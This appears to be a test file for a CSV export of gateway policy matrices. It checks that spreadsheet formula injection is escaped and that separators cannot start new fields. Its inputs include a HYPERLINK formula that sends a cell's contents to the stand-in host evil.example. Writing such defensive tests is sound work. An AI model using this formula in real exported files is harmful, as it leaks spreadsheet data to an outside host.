import t from 'tap'
import { formatMatrix } from '../../gateway/tools/cli/policy/matrix.ts'

const writeCell = (path: string): string => {
  const row = { route: 'r', source: 's', methods: ['GET'], path, cells: [] }
  return formatMatrix([row], 'csv').split('\r\n').slice(1).join('\r\n').slice('r,GET,'.length, -2)
}

// A reviewer opens the matrix of a proposed policy in a spreadsheet, which computes its fields.
t.test('no field of a CSV is a formula to a spreadsheet', async (t) => {
  for (const start of ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']) {
    const cell = writeCell(`${start}HYPERLINK("https://evil.example/?"&A1)`)
    t.match(cell, /^"'/, JSON.stringify(start))
    t.notMatch(cell.slice(1, -1).replaceAll('""', ''), '"', 'and no quote ends the field')
  }
  for (const separator of [';', '\t', ',', '\n', '\r'])
    t.equal(writeCell(`/x${separator}=1+1`), `"/x${separator}=1+1"`, 'a separator of any locale begins no new field')
  t.equal(writeCell('/datasets/:id'), '/datasets/:id', 'others stay as they are')
})
